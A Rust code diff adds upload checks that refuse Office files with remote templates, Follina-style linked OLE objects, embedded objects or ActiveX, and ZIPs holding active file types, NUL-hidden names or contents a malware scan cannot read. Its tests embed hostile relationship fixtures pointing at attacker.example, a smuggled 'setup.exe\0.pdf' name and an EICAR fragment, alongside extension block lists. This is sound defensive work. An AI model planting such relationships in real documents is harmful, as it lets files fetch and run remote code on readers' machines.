@@ -67,6 +67,13 @@ pub enum Refusal {
     ZipContent,
     /// A ZIP of more than [`MAX_ZIP_ENTRIES`] entries.
     ZipEntries,
+    /// An Office file that loads something from elsewhere when opened (a
+    /// remote template, a linked object) or carries a program in an
+    /// embedded OLE object or an ActiveX control.
+    Active,
+    /// A ZIP with an encrypted entry, or one larger than the malware scan
+    /// reads: what it holds could not be scanned.
+    Unscannable,
 }
 
 impl Refusal {
@@ -78,6 +85,8 @@ impl Refusal {
             Refusal::Type => "type",
             Refusal::ZipContent => "zip_content",
             Refusal::ZipEntries => "zip_entries",
+            Refusal::Active => "office_active",
+            Refusal::Unscannable => "unscannable",
         }
     }
 
@@ -89,6 +98,8 @@ impl Refusal {
             Refusal::Type => "evidence-bad-type",
             Refusal::ZipContent => "evidence-zip-content",
             Refusal::ZipEntries => "evidence-zip-entries",
+            Refusal::Active => "evidence-office-active",
+            Refusal::Unscannable => "evidence-unscannable",
         }
     }
 }
@@ -119,6 +130,24 @@ const MACRO_ENABLED: &[&str] = &["xlsm", "xltm", "xlam", "docm", "dotm", "pptm",
 /// Archives: one inside a ZIP would carry past [`admit`] what it cannot see.
 const ARCHIVES: &[&str] = &["zip", "7z", "rar", "lzh", "lha", "cab", "arj", "tar", "gz", "tgz", "bz2", "xz", "zst"];
 
+/// What is refused at the top level by its content (older Office formats,
+/// which may carry macros; OneNote; query and link files Office runs) or
+/// accepted there only as text under a `.txt` name (web pages), and would
+/// open as what they are once taken out of a ZIP.
+#[rustfmt::skip]
+const ACTIVE_INSIDE: &[&str] = &[
+    "xls", "xlt", "xla", "xlsb", "doc", "dot", "ppt", "pot", "pps", "ppa", "one", "onepkg", "slk", "iqy", "dqy",
+    "rqy", "oqy", "mdb", "mde", "accdb", "accde", "accdr", "bas", "shs", "shb", "msu", "diagcab", "xbap",
+    "html", "htm", "xhtml", "mht", "mhtml", "svg", "svgz",
+];
+
+/// The most a ZIP's entries may hold once inflated, together and each:
+/// past it the malware scan (ClamAV's `MaxScanSize` and `MaxFileSize`,
+/// 100 MB and 25 MB by default) stops reading and answers clean.
+pub const MAX_ZIP_INFLATED: u64 = 100 * 1024 * 1024;
+/// See [`MAX_ZIP_INFLATED`].
+pub const MAX_ZIP_ENTRY_INFLATED: u64 = 25 * 1024 * 1024;
+
 /// Characters a file name must not carry ([`mamori_core::text::hidden`]),
 /// so that a name shows what the file is.
 pub use mamori_core::text::hidden as hidden_in_names;
@@ -147,8 +176,16 @@ pub fn admit(bytes: &[u8], name: &str) -> Result<Kind, Refusal> {
     if matches!(kind, Kind::Xlsx | Kind::Docx | Kind::Pptx | Kind::Zip) && has_macros(bytes)? {
         return Err(Refusal::Macro);
     }
-    if kind == Kind::Zip && refused_inside(bytes)? {
-        return Err(Refusal::ZipContent);
+    if matches!(kind, Kind::Xlsx | Kind::Docx | Kind::Pptx) && office_active(bytes)? {
+        return Err(Refusal::Active);
+    }
+    if kind == Kind::Zip {
+        if refused_inside(bytes)? {
+            return Err(Refusal::ZipContent);
+        }
+        if !scannable(bytes)? {
+            return Err(Refusal::Unscannable);
+        }
     }
     Ok(kind)
 }
@@ -169,18 +206,83 @@ fn zip_entries_within(bytes: &[u8]) -> bool {
 }
 
 /// Does a (non-Office) ZIP hold, by the names of its entries, what would be
-/// refused on its own, or another archive? Without this, a program was
-/// accepted as evidence by zipping it.
+/// refused on its own, what opens as something active once taken out
+/// ([`ACTIVE_INSIDE`]), or another archive? Without this, a program was
+/// accepted as evidence by zipping it. A name with a character that hides
+/// what it is (`setup.exe\0.pdf`, which an extractor writes as `setup.exe`)
+/// is refused, not read past.
 fn refused_inside(bytes: &[u8]) -> Result<bool, Refusal> {
     let zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
     for name in zip.file_names() {
         let name = name.map_err(|_| Refusal::Type)?;
+        if name.chars().any(|c| c.is_control() || hidden_in_names(c)) {
+            return Ok(true);
+        }
         let last = name.rsplit(['/', '\\']).next().unwrap_or(&name);
-        let last: String = last.chars().filter(|c| !hidden_in_names(*c)).collect();
-        if let Some(ext) = extension(&last) {
-            if [EXECUTABLE, MACRO_ENABLED, ARCHIVES].iter().any(|list| list.contains(&ext.as_str())) {
+        if let Some(ext) = extension(last) {
+            if [EXECUTABLE, MACRO_ENABLED, ARCHIVES, ACTIVE_INSIDE].iter().any(|list| list.contains(&ext.as_str())) {
                 return Ok(true);
             }
+        }
+    }
+    Ok(false)
+}
+
+/// Can the malware scan read all of a ZIP? Not when an entry is encrypted
+/// (ClamAV answers clean for what it cannot open), nor when the entries
+/// declare more than [`MAX_ZIP_INFLATED`] together or
+/// [`MAX_ZIP_ENTRY_INFLATED`] one (ClamAV stops reading past its limits and
+/// answers clean). A declared size that lies is the scan's to find: it
+/// reads what is there.
+fn scannable(bytes: &[u8]) -> Result<bool, Refusal> {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
+    let mut total = 0u64;
+    for i in 0..zip.len() {
+        let entry = zip.by_index_raw(i).map_err(|_| Refusal::Type)?;
+        total = total.saturating_add(entry.size());
+        if entry.encrypted() || entry.size() > MAX_ZIP_ENTRY_INFLATED || total > MAX_ZIP_INFLATED {
+            return Ok(false);
+        }
+    }
+    Ok(true)
+}
+
+/// Most of an Office file's relationship parts that is read, together.
+const RELATIONSHIPS_LIMIT: u64 = 4 * 1024 * 1024;
+
+/// Does an Office file do something beyond showing itself when opened?
+/// A relationship to something outside the file other than a hyperlink (a
+/// remote template that brings macros, a linked OLE object as in the
+/// "Follina" attack, a linked picture that sends the reader's Windows
+/// credentials to a `file://` server), an embedded OLE object (`.bin`:
+/// the OLE Package that holds a program, the old Equation Editor's), or
+/// an ActiveX control. Relationship parts beyond [`RELATIONSHIPS_LIMIT`]
+/// together are refused as unknown.
+fn office_active(bytes: &[u8]) -> Result<bool, Refusal> {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
+    let names: Vec<String> =
+        zip.file_names().map(|n| n.map(|n| n.into_owned())).collect::<Result<_, _>>().map_err(|_| Refusal::Type)?;
+    let mut budget = RELATIONSHIPS_LIMIT;
+    for name in &names {
+        let lower = name.to_ascii_lowercase();
+        let folder = |f: &str| lower.split(['/', '\\']).any(|part| part == f);
+        if folder("activex") || (folder("embeddings") && lower.ends_with(".bin")) {
+            return Ok(true);
+        }
+        if !lower.ends_with(".rels") {
+            continue;
+        }
+        let mut text = Vec::new();
+        let entry = zip.by_name(name).map_err(|_| Refusal::Type)?;
+        entry.take(budget + 1).read_to_end(&mut text).map_err(|_| Refusal::Type)?;
+        budget = budget.checked_sub(text.len() as u64).ok_or(Refusal::Type)?;
+        let text = String::from_utf8_lossy(&text).to_ascii_lowercase();
+        let external = |r: &&str| {
+            let r = r.replace(['\'', ' ', '\t', '\r', '\n'], "").replace('"', "");
+            r.contains("targetmode=external") && !r.contains("/relationships/hyperlink")
+        };
+        if text.split("<relationship").skip(1).any(|r| external(&r)) {
+            return Ok(true);
         }
     }
     Ok(false)
@@ -442,6 +544,59 @@ mod tests {
         }
         for ext in EXECUTABLE {
             assert_eq!(admit(&pdf, &format!("x.{ext}")), Err(Refusal::Executable), "{ext}");
+        }
+    }
+
+    /// An Office file that fetches a template with macros when opened, or
+    /// runs a linked object ("Follina"), or carries a program in an
+    /// embedded OLE object, held no macro and was accepted; so was a ZIP
+    /// holding an old `.xls` with macros, a web page, a name hiding a
+    /// program behind a NUL, or entries the malware scan cannot read.
+    #[test]
+    fn office_files_that_reach_out_or_embed_objects_and_zips_the_scan_cannot_read_are_refused() {
+        let rels = |body: &str| {
+            format!(
+                r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>"#
+            )
+        };
+        let template = rels(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>"#,
+        );
+        let ole = rels(
+            r#"<Relationship Id='rId9' TargetMode = 'External' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Target='mhtml:http://attacker.example/x!x'/>"#,
+        );
+        let link = rels(
+            r#"<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>"#,
+        );
+        let docx = |part: &str, content: &str| {
+            zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", ""), (part, content)])
+        };
+        let big = "\0".repeat(26 * 1024 * 1024);
+        let encrypted = {
+            use std::io::Write;
+            let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+            let options =
+                zip::write::SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "password");
+            w.start_file("report.txt", options).unwrap();
+            w.write_all(b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR").unwrap();
+            w.finish().unwrap().into_inner()
+        };
+        let cases: Vec<(&str, Vec<u8>, Result<Kind, Refusal>)> = vec![
+            ("手順書.docx", docx("word/_rels/settings.xml.rels", &template), Err(Refusal::Active)),
+            ("手順書.docx", docx("word/_rels/document.xml.rels", &ole), Err(Refusal::Active)),
+            ("手順書.docx", docx("word/embeddings/oleObject1.bin", "\u{1}Ole10Native"), Err(Refusal::Active)),
+            ("手順書.docx", docx("word/activeX/activeX1.xml", "<ax/>"), Err(Refusal::Active)),
+            // a hyperlink out is what a document is for
+            ("手順書.docx", docx("word/_rels/document.xml.rels", &link), Ok(Kind::Docx)),
+            ("資料.zip", zip_of(&[("請求書.xls", "\u{d0}\u{cf}")]), Err(Refusal::ZipContent)),
+            ("資料.zip", zip_of(&[("report/index.html", "<script>")]), Err(Refusal::ZipContent)),
+            ("資料.zip", zip_of(&[("setup.exe\0.pdf", "MZ")]), Err(Refusal::ZipContent)),
+            ("資料.zip", encrypted, Err(Refusal::Unscannable)),
+            ("資料.zip", zip_of(&[("padding.txt", &big)]), Err(Refusal::Unscannable)),
+            ("資料.zip", zip_of(&[("logs/app.log", "ok"), ("config.xml", "<a/>")]), Ok(Kind::Zip)),
+        ];
+        for (name, bytes, want) in &cases {
+            assert_eq!(admit(bytes, name), *want, "{name}");
         }
     }
 
